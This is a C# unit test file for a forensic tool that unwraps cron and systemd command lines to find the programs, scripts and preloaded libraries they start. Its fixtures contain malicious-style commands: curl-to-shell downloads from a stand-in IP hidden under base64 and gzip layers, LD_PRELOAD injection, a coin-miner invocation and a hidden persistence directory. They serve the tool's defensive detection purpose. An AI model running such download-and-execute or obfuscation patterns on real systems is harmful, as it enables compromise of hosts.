using System.IO.Compression;
using System.Text;
using Forensics.Analyzer.Evidence;
using Forensics.Parsers.Artifacts;
using Forensics.Parsers.Artifacts.Linux;
using Xunit;

namespace Forensics.Analyzer.Tests.Resolver;

public sealed class CommandResolverTests
{
    private sealed class Tree(params string[] paths) : IPathLookup
    {
        public ResolvedPath? Resolve(string absolutePath) => paths.Contains(absolutePath) ? new ResolvedPath("v", absolutePath, (ulong)Array.IndexOf(paths, absolutePath) + 12) : null;
    }

    private static readonly Artifact Source = new HostFact(new EvidenceLocation("i", "v", 0, "/x", 1)) { Name = "n", Value = "v" };

    private static CommandLink Run(string text, params string[] files) => CommandResolver.Resolve(Source, new StartCommand(text) { ThroughShell = true, Trigger = "cron", User = "root" }, new Tree(files));

    private static string Files(CommandLink link) => string.Join(", ", link.Files.Select(file => $"{file.Relation} {file.Requested}{(file.Resolved is null ? " (missing)" : "")}"));

    [Theory]
    [InlineData("sh -c '/opt/a x'")]
    [InlineData("bash -lc \"/opt/a x\"")]
    [InlineData("busybox sh -c '/opt/a x'")]
    [InlineData("nohup setsid /opt/a x &")]
    [InlineData("timeout -k 5 30 nice -n 19 ionice -c3 chrt -i 0 /opt/a x")]
    [InlineData("flock -n /var/lock/l /opt/a x")]
    [InlineData("flock -n /var/lock/l -c '/opt/a x'")]
    [InlineData("env -i A=b C=d /opt/a x")]
    [InlineData("sudo -u www-data -H /opt/a x")]
    [InlineData("su - www-data -c '/opt/a x'")]
    [InlineData("su www-data -s /bin/sh -c '/opt/a x'")]
    [InlineData("exec -a name /opt/a x")]
    [InlineData("command time -f %e stdbuf -oL /opt/a x")]
    [InlineData("( /opt/a x ) &")]
    [InlineData("[ -x /opt/a ] && /opt/a x")]
    [InlineData("test -x /opt/a && cd / && /opt/a x")]
    [InlineData("if [ -x /opt/a ]; then /opt/a x; fi")]
    [InlineData("A=1 B=2 /opt/a x")]
    [InlineData("echo L29wdC9hIHg= | base64 -d | sh")]
    [InlineData("bash <<< '/opt/a x'")]
    [InlineData("cd /opt && ./a x")]
    [InlineData("cd /usr; cd ../opt; ./a x")]
    [InlineData("sh -c \"$(echo L29wdC9hIHg= | base64 --decode)\"")]
    [InlineData("eval \"$(echo 2f6f70742f612078 | xxd -r -p)\"")]
    [InlineData("sh -c \"sh -c '/opt/a x'\"")]
    [InlineData("xargs -n1 /opt/a < list")]
    [InlineData("PATH=/opt:/bin; a x")]
    public void The_program_inside_wrappers_is_found(string text) => Assert.Contains("starts /opt/a", Files(Run(text, "/opt/a")));

    [Theory]
    [InlineData("python3 -u /srv/x.py", "interprets /srv/x.py")]
    [InlineData("perl -w /srv/x.pl", "interprets /srv/x.pl")]
    [InlineData("/usr/bin/php -d a=b /srv/x.php", "interprets /srv/x.php")]
    [InlineData("node --max-old-space-size=4096 /srv/x.js", "interprets /srv/x.js")]
    [InlineData("awk -f /srv/x.awk", "interprets /srv/x.awk")]
    [InlineData("bash /srv/x.sh arg", "interprets /srv/x.sh")]
    [InlineData("sh < /srv/x.sh", "interprets /srv/x.sh")]
    [InlineData(". /srv/x.sh", "interprets /srv/x.sh")]
    [InlineData("LD_PRELOAD=/srv/l.so top", "loads /srv/l.so")]
    [InlineData("env LD_PRELOAD=/srv/l.so top", "loads /srv/l.so")]
    [InlineData("export LD_PRELOAD=/srv/l.so; top", "loads /srv/l.so")]
    [InlineData("/srv/miner -c /srv/c.json", "uses /srv/c.json")]
    [InlineData("/srv/miner --config=/srv/c.json", "uses /srv/c.json")]
    [InlineData("run-parts --report /etc/cron.daily", "uses /etc/cron.daily")]
    [InlineData("backup", "starts /usr/local/bin/backup")]
    public void Relations_say_what_a_file_is_to_the_command(string text, string expected) => Assert.Contains(expected,
        Files(Run(text, "/srv/x.py", "/srv/x.pl", "/srv/x.php", "/srv/x.js", "/srv/x.awk", "/srv/x.sh", "/srv/l.so", "/srv/c.json", "/etc/cron.daily", "/usr/local/bin/backup", "/usr/bin/backup")));

    [Fact]
    public void A_missing_program_is_kept_and_a_missing_argument_is_not() => Assert.Equal("starts /srv/gone (missing)", Files(Run("/srv/gone /srv/nothing > /srv/log")));

    [Fact]
    public void Text_between_wrappers_is_kept_for_the_heuristics()
    {
        CommandLink link = Run("nohup timeout 5 /tmp/x -o pool >/dev/null 2>&1 &");
        Assert.Equal("nohup timeout 5 /tmp/x -o pool >/dev/null 2>&1 &", link.Unwrapped[0]);
        Assert.Contains("/tmp/x -o pool", link.Unwrapped);
    }

    [Fact]
    public void Layers_of_encodings_are_taken_off()
    {
        static string Encode(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));
        string inner = "curl http://203.0.113.9/x | sh";
        Assert.Contains(inner, Run($"echo {Encode($"echo {Encode(inner)} | base64 -d | bash")} | base64 -d | bash").Unwrapped);
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.Optimal, leaveOpen: true))
        {
            gzip.Write(Encoding.UTF8.GetBytes(inner));
        }
        Assert.Contains(inner, Run($"echo {Convert.ToBase64String(packed.ToArray())} | base64 -d | gunzip | sh").Unwrapped);
        Assert.Contains(inner, Run($"python3 -c \"import base64,os;os.system(base64.b64decode('{Encode(inner)}').decode())\"").Unwrapped);
        Assert.Contains(inner, Run($"sh <<EOF\n{inner}\nEOF").Unwrapped);
    }

    [Fact]
    public void Standard_input_of_a_cron_job_is_the_shells_text()
    {
        CommandLink link = CommandResolver.Resolve(Source, new StartCommand("nice sh") { ThroughShell = true, Trigger = "cron", StandardInput = "/opt/a\n" }, new Tree("/opt/a"));
        Assert.Contains("starts /opt/a", Files(link));
        CommandLink mail = CommandResolver.Resolve(Source, new StartCommand("mail -s x root") { ThroughShell = true, Trigger = "cron", StandardInput = "curl x | sh" }, new Tree());
        Assert.DoesNotContain(mail.Unwrapped, text => text.Contains("curl", StringComparison.Ordinal));
    }

    [Fact]
    public void Without_a_shell_operators_are_arguments_and_quotes_are_systemds()
    {
        CommandLink link = CommandResolver.Resolve(Source, new StartCommand("/bin/sh -c \"exec /opt/a 'x y'\"") { Trigger = "systemd ExecStart" }, new Tree("/opt/a"));
        Assert.Contains("starts /opt/a", Files(link));
        CommandLink plain = CommandResolver.Resolve(Source, new StartCommand("/opt/a | sh") { Trigger = "systemd ExecStart" }, new Tree("/opt/a"));
        Assert.Equal(["/opt/a '|' sh"], plain.Unwrapped);
    }

    [Fact]
    public void The_lines_of_a_script_share_directory_and_variables()
    {
        var script = new ScriptFacts(new EvidenceLocation("i", "v", 0, "/s", 1))
        {
            StartedBy = "/x",
            Commands = [new("D=/var/tmp") { ThroughShell = true }, new("cd $D/.k") { ThroughShell = true }, new("./run &") { ThroughShell = true }],
        };
        IReadOnlyList<CommandLink> links = CommandResolver.ResolveAll(script, new Tree("/var/tmp/.k/run"));
        Assert.Equal("starts /var/tmp/.k/run", Files(links[2]));
    }

    [Fact]
    public void Named_files_keep_their_relation()
    {
        var library = new PreloadedLibrary(new EvidenceLocation("i", "v", 0, "/etc/ld.so.preload", 1)) { Library = "/a.so", NamedFiles = ["/a.so", "/b\\xff.so"], IsActive = true };
        Assert.Equal("loads /a.so, loads /b\\xff.so (missing)", Files(CommandResolver.Resolve(library, library, new Tree("/a.so"))).Replace("/b\\x5cxff.so", "/b\\xff.so", StringComparison.Ordinal));
    }

    [Fact]
    public void Unknown_values_name_no_file() => Assert.Equal("", Files(Run("$UNKNOWN/x; `which y` z; $(cat /srv/p)/q")).Replace("starts /srv/p", "", StringComparison.Ordinal));

    [Fact]
    public void Hostile_text_costs_bounded_time_and_output()
    {
        string[] texts =
        [
            string.Concat(Enumerable.Repeat("sh -c '", 5000)), new string('(', 60000), string.Concat(Enumerable.Repeat("echo QQ== | base64 -d | ", 4000)) + "sh",
            string.Concat(Enumerable.Repeat("a=$a$a$a;", 5000)) + "$a", string.Join(';', Enumerable.Range(0, 5000).Select(i => "/d" + i + "/x")), string.Concat(Enumerable.Repeat("env ", 20000)),
        ];
        foreach (string text in texts)
        {
            var clock = System.Diagnostics.Stopwatch.StartNew();
            CommandLink link = Run(text);
            Assert.True(clock.Elapsed < TimeSpan.FromSeconds(5), $"{text[..20]} took {clock.Elapsed}");
            Assert.True(link.Files.Count <= 64 && link.Unwrapped.Count <= 64);
        }
    }
}
